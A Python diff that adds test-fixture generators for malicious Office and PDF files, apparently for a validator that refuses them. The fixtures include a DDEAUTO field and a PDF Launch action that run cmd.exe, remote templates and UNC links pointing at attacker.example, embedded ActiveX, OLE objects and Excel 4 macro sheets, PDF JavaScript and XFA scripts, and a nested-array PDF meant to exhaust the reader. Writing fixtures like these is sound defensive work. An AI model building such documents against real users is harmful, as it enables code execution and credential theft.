@@ -212,3 +212,180 @@ def cross_reference_chain_pdf(sections: int, padding: int) -> bytes:
                 % (num, num + 1, prev, len(packed)) + packed + b"\nendstream\nendobj\n")
         previous = at
     return bytes(out + b"startxref\n%d\n%%%%EOF\n" % previous)
+
+
+# ---------------------------------------------------------------- Office documents that run code or reach out
+# Each is what Word or Excel would open and act on (decision record 0060); the chart's workbook is the control.
+
+_W = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
+_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _relationships(*rels: tuple[str, str, str]) -> bytes:
+    """A relationships part: (type, target, target mode) each; the type under officeDocument's relationships
+    unless it is a whole URI."""
+    listed = "".join(f'<Relationship Id="rId{n}" Type="{kind if "://" in kind else f"{_REL}/{kind}"}" '
+                     f'Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
+                     for n, (kind, target, mode) in enumerate(rels, 1))
+    return f'<Relationships xmlns="{_PKG}">{listed}</Relationships>'.encode()
+
+
+def _docx(body: str = "<w:p><w:r><w:t>Board paper</w:t></w:r></w:p>", parts: dict[str, bytes] | None = None) -> bytes:
+    from sample_submissions.evidence import _DOCX_PARTS
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, part in _DOCX_PARTS.items():
+            zf.writestr(name, part)
+        zf.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W}><w:body>{body}'
+                                         "</w:body></w:document>")
+        for name, data in (parts or {}).items():
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def dde_field_docx(simple: bool = False) -> bytes:
+    """A field that runs a command when the document opens, its code split over two runs as Word may write it
+    (or as a simple field)."""
+    command = "c:\\\\windows\\\\system32\\\\cmd.exe"
+    if simple:
+        return _docx(f'<w:p><w:fldSimple w:instr=" DDEAUTO {command} &quot;/k calc&quot;"/></w:p>')
+    return _docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD'
+                 f'</w:instrText></w:r><w:r><w:instrText>EAUTO {command} "/k calc"</w:instrText>'
+                 '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def remote_template_docx() -> bytes:
+    """A document attached to a template on another server, which Word fetches (and runs, if it holds macros)."""
+    return _docx(parts={
+        "word/settings.xml": f'<w:settings {_W}><w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
+        "word/_rels/document.xml.rels": _relationships(("settings", "settings.xml", "")),
+        "word/_rels/settings.xml.rels": _relationships(
+            ("attachedTemplate", "http://attacker.example/board-template.dotm", "External")),
+    })
+
+
+def activex_docx() -> bytes:
+    """An ActiveX control, kept outside the usual folder and named only by the document's relationship."""
+    return _docx('<w:p><w:r><w:object><w:control r:id="rId1" w:name="Button1"/></w:object></w:r></w:p>', parts={
+        "word/_rels/document.xml.rels": _relationships(("control", "controls/c1.xml", "")),
+        "word/controls/c1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+                                b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
+    })
+
+
+def ole_object_docx() -> bytes:
+    """A legacy Word file embedded as an OLE object (the kind refused on its own: it can carry macros unseen)."""
+    return _docx(parts={"word/_rels/document.xml.rels": _relationships(("oleObject", "embeddings/o1.bin", "")),
+                        "word/embeddings/o1.bin": OLE_MAGIC + bytes(504)})
+
+
+def linked_picture_docx() -> bytes:
+    """A picture the document fetches from a file share when it opens."""
+    return _docx(parts={"word/_rels/document.xml.rels": _relationships(
+        ("image", "file:///\\\\attacker.example\\share\\logo.png", "External"))})
+
+
+def chart_docx(embedded: bytes | None = None) -> bytes:
+    """A document with a chart whose data is an embedded workbook, as Word writes it: the control, accepted;
+    with `embedded`, that document instead of the chart's workbook."""
+    from sample_submissions.evidence import sample_xlsx
+
+    return _docx(parts={
+        "word/_rels/document.xml.rels": _relationships(("chart", "charts/chart1.xml", "")),
+        "word/charts/chart1.xml": b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
+        "word/charts/_rels/chart1.xml.rels": _relationships(("package", "../embeddings/Book1.xlsx", "")),
+        "word/embeddings/Book1.xlsx": embedded or sample_xlsx(),
+    })
+
+
+def _xlsx_with(parts: dict[str, bytes], workbook_relationships: tuple[str, str, str]) -> bytes:
+    from sample_submissions.evidence import sample_xlsx
+
+    data = sample_xlsx()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            content = src.read(info)
+            if info.filename == "xl/_rels/workbook.xml.rels":
+                extra = _relationships(workbook_relationships).split(b">", 1)[1].rsplit(b"<", 1)[0]
+                content = content.replace(b"</Relationships>", extra.replace(b'Id="rId1"', b'Id="rIdX"')
+                                          + b"</Relationships>")
+            dst.writestr(info.filename, content)
+        for name, content in parts.items():
+            dst.writestr(name, content)
+    return out.getvalue()
+
+
+def macro_sheet_xlsx() -> bytes:
+    """An Excel 4 macro sheet, kept outside the usual folder and named by the workbook's relationship only."""
+    return _xlsx_with({"xl/other/m1.xml": b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/'
+                                          b'2006/main"/>'},
+                      ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "other/m1.xml", ""))
+
+
+def external_link_xlsx() -> bytes:
+    """A link to a workbook on a file share."""
+    return _xlsx_with({
+        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
+                                              b'spreadsheetml/2006/main"/>',
+        "xl/externalLinks/_rels/externalLink1.xml.rels": _relationships(
+            ("externalLinkPath", "file:///\\\\attacker.example\\share\\x.xlsx", "External"))},
+        ("externalLink", "externalLinks/externalLink1.xml", ""))
+
+
+# ---------------------------------------------------------------- PDFs written object by object
+
+def plain_pdf(*objects: bytes) -> bytes:
+    """A PDF of the given objects (numbered from 1; the first is the catalog) with a cross-reference table."""
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for n, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
+    at = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at)
+    return bytes(out)
+
+
+def _pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
+    """A one-page PDF; objects in `more` are numbered from 4."""
+    return plain_pdf(b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page_extra + b" >>", *more)
+
+
+def indirect_launch_pdf() -> bytes:
+    """A launch action whose type is kept in an object of its own."""
+    return _pdf_with(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R /Win << /F (cmd.exe) /P (/c calc) >> >>", b"/Launch")
+
+
+def parent_field_javascript_pdf() -> bytes:
+    """A form field's script, the field reached only through its widget's /Parent."""
+    return _pdf_with(b"/AcroForm << /Fields [] >>", b"/Annots [4 0 R]",
+                     b"<< /Type /Annot /Subtype /Widget /Rect [72 600 300 630] /P 3 0 R /Parent 5 0 R >>",
+                     b"<< /FT /Tx /T (amount) /Kids [4 0 R] /AA << /F << /S /JavaScript /JS (app.alert(1)) >> >> >>")
+
+
+def xfa_pdf() -> bytes:
+    """An XFA form, whose scripts a viewer that reads XFA runs."""
+    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
+           b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>'
+           b"</xdp:xdp>")
+    return _pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"",
+                     b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream")
+
+
+def remote_go_to_pdf() -> bytes:
+    """A PDF that opens another on a file share as it opens."""
+    return _pdf_with(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")
+
+
+def nested_arrays_pdf(arrays: int) -> bytes:
+    """One object of `arrays` arrays of 99,999 empty arrays each (each within the reader's limit for one array):
+    the reader builds them all as it reads the object."""
+    return _pdf_with(b"/Extra 4 0 R", b"", b"[" + (b"[" + b"[]" * 99_999 + b"]") * arrays + b"]")
